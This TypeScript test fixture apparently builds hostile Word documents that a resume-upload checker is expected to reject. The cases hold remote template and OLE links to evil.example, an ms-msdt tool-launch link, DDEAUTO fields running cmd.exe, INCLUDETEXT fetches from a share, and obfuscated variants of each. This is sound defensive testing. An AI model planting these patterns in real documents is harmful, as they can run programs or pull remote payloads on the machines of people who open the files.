import { buildDocx, documentXml } from './files'
import { docxClaim, type ResumeCase } from './hostile-pdf'

const rels = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`
/** A document with one relation, e.g. to a template. */
export const relation = (attributes: string) =>
  buildDocx([{ name: 'word/_rels/settings.xml.rels', content: rels(attributes) }])
/** A document with this in its text. */
const text = (content: string) =>
  buildDocx([
    { name: 'word/document.xml', content: documentXml.replace('<w:body/>', `<w:body>${content}</w:body>`) },
  ])

/** Documents whose parts fetch, start or hide something, or cannot be read in one way alone. */
export const hostileParts: ResumeCase[] = [
  [
    'an entity bomb',
    buildDocx([{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }]),
    docxClaim,
  ],
  [
    'a template from elsewhere',
    buildDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: rels(
          'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"',
        ),
      },
    ]),
    docxClaim,
  ],
  [
    'a page for a document part',
    buildDocx([{ name: 'word/document.xml', content: '<html><script>wordprocessingml</script></html>' }]),
    docxClaim,
  ],
  [
    'another kind of part for a document part',
    buildDocx([{ name: 'word/document.xml', content: '<?xml version="1.0"?><html/>' }]),
    docxClaim,
  ],
  [
    'an object from elsewhere',
    relation('Type="http://x/oleObject" Target="https://evil.example/a.html!" TargetMode="External"'),
    docxClaim,
  ],
  [
    'a picture from a share',
    relation('Type="http://x/image" Target="file://evil/share/a.png" TargetMode="External"'),
    docxClaim,
  ],
  [
    'a frame from elsewhere',
    relation("Type='http://x/frame' Target='https://evil.example/' TargetMode='External'"),
    docxClaim,
  ],
  [
    'a template in disguised letters',
    relation(
      'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm>" TargetMode="Exter&#110;al"',
    ),
    docxClaim,
  ],
  [
    'a template in another encoding',
    buildDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from('<Relationship Type="x/attachedTemplate" TargetMode="External"/>', 'utf16le'),
      },
    ]),
    docxClaim,
  ],
  [
    'a part in an encoding of its own',
    buildDocx([{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    docxClaim,
  ],
  [
    'a link that runs a tool',
    relation('Type="http://x/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"'),
    docxClaim,
  ],
  [
    'a link that is a script',
    relation('Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"'),
    docxClaim,
  ],
  [
    'a field that starts a program',
    buildDocx([
      {
        name: 'word/document.xml',
        content: documentXml.replace(
          '<w:body/>',
          '<w:body><w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\cmd.exe</w:instrText></w:body>',
        ),
      },
    ]),
    docxClaim,
  ],
  [
    'a field that fetches a file',
    buildDocx([
      {
        name: 'word/document.xml',
        content: documentXml.replace(
          '<w:body/>',
          '<w:body><w:fldSimple w:instr="INCLUDETEXT //evil/x"/></w:body>',
        ),
      },
    ]),
    docxClaim,
  ],
  ['a field parted by a comment', text('<w:instrText>INCLUDE<!-- -->TEXT //evil/x</w:instrText>'), docxClaim],
  [
    'a field parted by an instruction',
    text('<w:instrText>INCLUDE<?a b?>TEXT //evil/x</w:instrText>'),
    docxClaim,
  ],
  ['a field in a section', text('<w:instrText><![CDATA[INCLUDETEXT //evil/x]]></w:instrText>'), docxClaim],
  ['a field under another prefix', text('<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>'), docxClaim],
  ['a field without a prefix', text('<instrText>DDE cmd</instrText>'), docxClaim],
  ['a field in disguised letters', text('<w:instrText>&#x44;DE cmd</w:instrText>'), docxClaim],
  ['a field between other marks', text("<w:fldSimple w:instr='INCLUDETEXT //evil/x'/>"), docxClaim],
  [
    'a template under another prefix',
    buildDocx([
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<r:Relationships><r:Relationship Type="x/attachedTemplate" Target="https://evil.example/t" TargetMode="External"/></r:Relationships>',
      },
    ]),
    docxClaim,
  ],
  [
    'a template with room around its mode',
    relation('Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode=" External "'),
    docxClaim,
  ],
  [
    'an object that is named a picture',
    relation('Type="http://x/oleObject" Target="media/a.png"'),
    docxClaim,
  ],
  ['a page that is named a picture', relation('Type="http://x/aFChunk" Target="media/a.png"'), docxClaim],
  ['a control that is named a picture', relation('Type="http://x/control" Target="media/a.png"'), docxClaim],
  ['macros that are named a picture', relation('Type="http://x/vbaProject" Target="media/a.png"'), docxClaim],
  [
    'more text than can be looked through',
    buildDocx([
      { name: 'word/a.xml', content: `<a>${' '.repeat(2_200_000)}</a>` },
      { name: 'word/b.xml', content: `<a>${' '.repeat(2_200_000)}</a>` },
    ]),
    docxClaim,
  ],
]
